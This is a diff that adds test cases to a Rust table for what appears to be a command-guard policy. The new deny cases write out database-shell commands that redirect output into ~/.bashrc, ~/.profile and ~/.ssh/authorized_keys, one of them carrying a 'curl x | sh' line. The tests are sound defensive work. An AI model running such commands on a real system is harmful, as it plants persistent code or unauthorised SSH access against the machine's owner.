@@ -747,6 +747,15 @@ pub(crate) const CASES: &[Case] = &[
     allow("sqlite3 app.db <<< '.tables'"),
     allow("sqlite3 app.db '.shell ls'"),
     allow("duckdb app.db '.read schema.sql'"),
+    // ... and the files their output commands write.
+    deny("files.deny-write", "sqlite3 app.db '.output ~/.bashrc' \"select 'curl x | sh'\""),
+    deny("files.deny-write", "sqlite3 app.db \".once '/home/dev/.profile'\" 'select 1'"),
+    deny("files.deny-write", "sqlite3 app.db <<< '.backup ~/.ssh/authorized_keys'"),
+    deny("files.deny-write", "psql -c '\\o ~/.bashrc' -c 'select 1'"),
+    deny("files.deny-write", "mysql -e 'tee ~/.bashrc'"),
+    allow("sqlite3 app.db '.once out/report.csv' 'select * from t'"),
+    allow("sqlite3 app.db '.backup backup.db'"),
+    allow("psql -c '\\o report.txt' -c 'select 1'"),
     // File-transfer batch files: commands the line does not show, read when they exist (a
     // project's: `guard::line`'s tests), asked about when named at run time or in a temp
     // directory that does not hold them.
